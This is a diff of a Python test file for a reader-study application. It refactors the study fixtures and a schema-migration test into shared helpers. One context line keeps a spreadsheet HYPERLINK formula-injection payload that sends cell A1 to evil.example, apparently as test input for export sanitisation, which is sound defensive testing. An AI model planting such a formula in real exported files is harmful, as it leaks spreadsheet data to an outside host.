@@ -20,20 +20,9 @@ from studies.errors import NotAuthorised, SessionError
 from studies.export import long_table, read_long_csv, write_export
 from studies.session import CannotGoBack, go_back, next_case, stimulus_png, submit
 from studio.cli import cli
-from study_fixtures import copy_study, make_study
+from study_fixtures import database_at_version, make_study, study, template  # noqa: F401 (fixtures)
 
 LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-
-
-@pytest.fixture(scope="module")
-def template(tmp_path_factory):
-    db, _ = make_study(tmp_path_factory.mktemp("tpl"), "pilot")
-    return db
-
-
-@pytest.fixture()
-def study(template, tmp_path):
-    return copy_study(template, tmp_path)
 
 
 def _reader(db, name="dr-a", study="pilot"):
@@ -337,10 +326,7 @@ def test_cli_configure_allows_and_forbids_going_back(study):
 
 def test_migration_6_upgrades_a_schema_5_database(tmp_path, monkeypatch):
     path = tmp_path / "old.db"
-    with monkeypatch.context() as m:
-        m.setattr(database, "MIGRATIONS", [x for x in database.MIGRATIONS if x[0] <= 5])
-        m.setattr(database, "SCHEMA_VERSION", 5)
-        db = open_db(path)
+    with database_at_version(path, 5, monkeypatch) as db:
         sid = db["studies"].insert({"name": "s", "created_at": "x", "size": 64,
                                     "tasks": '["turing"]', "options": "{}", "seed": 0,
                                     "status": "open"}).last_pk
@@ -356,7 +342,6 @@ def test_migration_6_upgrades_a_schema_5_database(tmp_path, monkeypatch):
         db["responses"].insert({"client_id": "c", "reader_id": rid, "assignment_id": aid,
                                 "case_id": cid, "task": "turing", "answer": "real",
                                 "rating": 1, "duration_ms": 5, "answered_at": "y"})
-        db.close()
     db = open_db(path)
     try:
         assert db.execute("SELECT max(version) FROM schema_version").fetchone()[0] == database.SCHEMA_VERSION
